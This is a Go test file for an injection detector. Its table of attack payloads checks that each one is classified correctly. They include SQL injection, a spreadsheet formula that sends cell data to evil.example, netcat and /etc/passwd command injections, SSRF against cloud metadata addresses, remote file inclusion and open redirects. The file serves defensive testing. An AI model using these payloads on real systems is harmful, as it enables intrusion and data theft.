package injection

import (
	"net/url"
	"testing"
)

// TestShapes: kinds of payloads by their form, each in a parameter whose name says
// nothing unless it is given.
func TestShapes(t *testing.T) {
	a := New()
	for _, x := range []struct {
		class Class
		name  string
		text  string
	}{
		{SQLi, "id", "-1 OR 2+394-394-1=0+0+0+1 -- "},
		{SSRF, "view", "http://c1a2b3.oast.fun/x"},
		{SSRF, "view", "nslookup.c1a2b3.oastify.com"},
		{Command, "view", "=cmd|' /C calc'!A0"},
		{Command, "view", "@SUM(1+9)*cmd|' /C calc'!A0"},
		{Command, "view", "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")"},
		{Command, "view", "&set&"},
		{Code, "view", "a;exit(md5('x'));//"},
		{Code, "view", "'.exit(md5('x'));//"},
		{Inclusion, "view", "products::$DATA"},
		{Inclusion, "include_class", "https://evil.example/a.txt/something"},
		{Traversal, "view", "..:..:..:etc:hosts:"},
		{CRLF, "view", "http://evil.example\r\nwapiti: 1"},
		{Probe, "view", "12'SXCVcQ<'\">EiEhHCW"},
		{Probe, "view", "3\"(.))'..)("},
		{Probe, "postids", "'1"},
		{SQLi, "id", "1 or 3*2<(0+5+595-595)"},
		{SQLi, "id", "\xbf'\xbf\""},
		{Probe, "id", "558'"},
		{Probe, "order", "1'\""},
		{Probe, "view", "!(()&&!|*|*|"},
		{Probe, "view", "^(#$!@#$)(()))******"},
		{Probe, "sort", "@@version_x"},
		{Probe, "id", "'\"()"},
		{Command, "view", "set|set&set"},
		{XSS, "view", "menu\" lEwm=kzsy([! !]) x=\""},
		{Code, "view", ";print(md5(31337));"},
		{Code, "view", "response.write(9295186*9290206)"},
		{Inclusion, "view", "WEB-INF\\web.xml"},
		{Inclusion, "view", "http://evil.example/some_file?.jpg"},
		{Inclusion, "view", "\\\\evil.example\\share\\a.php"},
		{Inclusion, "GLOBALS[path]", "http://evil.example/x"},
		{Inclusion, "template", "http://192.0.2.7/x"},
		{CRLF, "view", "\u560a\u560dSet-Cookie: a=b"},
		{CRLF, "view", "\u010d\u010aX-Injected: a"},
		{Encoding, "view", "a\xc0\xbeb\xc0\xbc"},
		{LDAP, "view", "x(|(mail=*))"},
		{OpenRedirect, "view", "https://shop.example.com.evil.example/"},
		{OpenRedirect, "view", "https://evilexample.com/"},
		{OpenRedirect, "view", "https://\t/evil.example"},
		{OpenRedirect, "view", "\u30fcevil.example"},
		{SQLi, "name", "x'<'y' or 1=1 -- "},
		{SQLi, "name", "x'='"},
		{SQLi, "name", "x'<4"},
		{SQLi, "name", "x' <3 -- "},
		{SQLi, "sql", "select a from b where c=1 or 1=1"},
		{SQLi, "sql", "select a from b where c='x' or 'y'='y'"},
		{SQLi, "sql", "select a from b union select 1,2,3"},
		{SQLi, "sql", "select a from b where sleep(5)"},
		{SQLi, "sql", "select @@version from b"},
		{SQLi, "sql", "select a from b; drop table c"},
		{SQLi, "sql", "select a, b from information_schema.tables"},
		{SQLi, "sql", "select a from b where c = 1 -- x"},
		{SQLi, "name", "x' order by 3 -- "},
		{SQLi, "name", "x'; waitfor delay '0:0:5' -- "},
		{SQLi, "name", "declare @a varchar(99)"},
		{SQLi, "name", "1 or (select 1) > 0"},
		{PHP, "view", "$$a(1)"},
		{PHP, "view", "$$a='x'"},
		{PHP, "view", "${$$a}('id')"},
		{Command, "host", "x; ps 5; sleep 7"},
		{Command, "host", "a & more </etc/passwd"},
		{Command, "host", "a & more $9/etc/passwd"},
		{Command, "host", "a; perl $1 /tmp/x.pl"},
		{Command, "host", "a; nc 192.0.2.7 4444"},
		{Command, "host", "a; ping 10.1"},
		{Command, "host", "a; php 1.php"},
		{Command, "host", "a; wc 1 >/tmp/x"},
		{Command, "host", "a | type c:\\boot.ini"},
		{Command, "host", "a &type web.config"},
		{Command, "host", "a | b | id"},
		{Command, "host", "a|id"},
		{Command, "host", "|id|"},
		{Command, "host", "a & touch '/tmp/x'"},
		{Command, "host", "a & echo 'x'"},
		{Command, "host", "a | bash"},
		{Command, "host", "a;bash"},
		{Command, "host", "x `id`"},
		{Command, "host", "a.example;`id`"},
		{Command, "host", "please run `id` now"},
		{Command, "host", "please run `cat /etc/passwd` now"},
		{Command, "host", "please run `rm -rf x` now"},
		{Command, "host", "select `cat /etc/passwd`"},
		{Command, "host", "a `ls` $(b)"},
		{SSRF, "url", "http://localhost:3000/"},
		{SSRF, "dl", "http://192.168.1.5/admin/"},
		{SSRF, "callback", "http://192.168.1.5/admin/"},
		{SSRF, "redirect_uri", "http://169.254.169.254/latest/"},
		{SSRF, "redirect_uri", "http://127.0.0.1\\@evil.example/"},
		{SSRF, "redirect_uri", "http://localhost#@evil.example/"},
		{SSRF, "redirect_uri", "http://localhost./"},
		{SSRF, "redirect_uri", "http://127\u30020\u30020\u30021/"},
		{SSRF, "redirect_uri", "http://0x7f000001/"},
		{SSRF, "redirect_uri", "http://[::ffff:127.0.0.1]/"},
		{OpenRedirect, "redirect_uri", "http://localhost@evil.example/"},
		{OpenRedirect, "redirect_uri", "http://localhost.evil.example/"},
		{OpenRedirect, "redirect_uri", "http://127.0.0.1.evil.example/"},
		{OpenRedirect, "code", "http://api.example|.evil.example/"},
		{SSRF, "view", "feed://127.0.0.1/rss"},
		{Inclusion, "view", "ftp://ftp.evil.example/a.php"},
		{Inclusion, "url", "file:///C:/inetpub/page.html"},
	} {
		r := Request{Path: "/api", Query: "page=2&" + url.QueryEscape(x.name) + "=" + url.QueryEscape(x.text), Host: "shop.example.com"}
		if set := a.Analyze(&r); !set.Has(x.class) {
			t.Errorf("%s=%q is %v, want %s", x.name, x.text, set.Append(nil), x.class)
		}
	}
	for _, x := range []struct {
		class       Class
		path, query string
	}{
		{Command, "/cgi-bin/x", "-s"},
		{Command, "/x.exe", "/c+dir"},
		{Traversal, "/internal.sws", "../../../../Windows/win.ini"},
		{Encoding, "/iojs/%2e/x", ""},
		{Encoding, "/actuator;/env", ""},
		{Inclusion, "/a", "sort=.%2Fweb.config"},
		{SSRF, "/http://169.254.169.254/v1/metadata", ""},
		{SSRF, "/https://192.168.0.1/", ""},
		{SSRF, "/fetch", "dl=http://10.0.0.12/&tid=G-1"},
		{SSRF, "/fetch", "url=http://10.0.0.12/&idsite=1&rec=1"},
		{SSRF, "/matomo.php", "url=http://169.254.169.254/&idsite=1&rec=1"},
		{Probe, "/orders/5'/items", ""},
		{OpenRedirect, "//evil.example/%2e%2e", ""},
		{OpenRedirect, "/evil.example/%2f..", ""},
		{OpenRedirect, "/%5cevil.example", ""},
		{OpenRedirect, "/login", "next=http://shop.example.com%2f@evil.example/"},
		{OpenRedirect, "/login", "u=" + url.QueryEscape("/go?url=//evil.example")},
		{Encoding, "/%61%64%6d%69%6e", ""},
		{Code, "/", "c=XyQkTkRfRlVOQyQkXwo"},
	} {
		if set := a.Analyze(&Request{Path: x.path, Query: x.query, Host: "shop.example.com"}); !set.Has(x.class) {
			t.Errorf("%s?%s is %v, want %s", x.path, x.query, set.Append(nil), x.class)
		}
	}
}
